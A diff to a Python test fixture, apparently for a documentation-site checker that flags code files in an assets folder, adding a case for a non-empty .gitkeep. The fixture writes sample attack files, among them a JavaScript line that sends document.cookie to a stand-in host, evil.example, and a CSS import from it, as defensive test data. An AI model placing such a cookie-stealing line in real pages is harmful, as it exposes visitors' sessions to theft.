@@ -131,7 +131,15 @@ def code_in_assets(docs: Path) -> list[str]:
         "@import url(https://evil.example/x.css);\n", encoding="utf-8"
     )
     (docs / "assets" / "suivi.JS").write_text("fetch('https://evil.example/?' + document.cookie)\n", "utf-8")
-    return [not_published("assets/stylesheets/extra.css", ".css"), not_published("assets/suivi.JS", ".js")]
+    # An empty `.gitkeep` keeps a folder in git and is never published: allowed. One that holds
+    # something is a file like any other, of no image type.
+    (docs / "assets" / "stylesheets" / ".gitkeep").write_bytes(b"")
+    (docs / "assets" / ".gitkeep").write_text(ATTACK, encoding="utf-8")
+    return [
+        not_published("assets/.gitkeep", "no ending"),
+        not_published("assets/stylesheets/extra.css", ".css"),
+        not_published("assets/suivi.JS", ".js"),
+    ]
 
 
 ASSETS_MISTAKES: list[tuple[str, Make]] = [
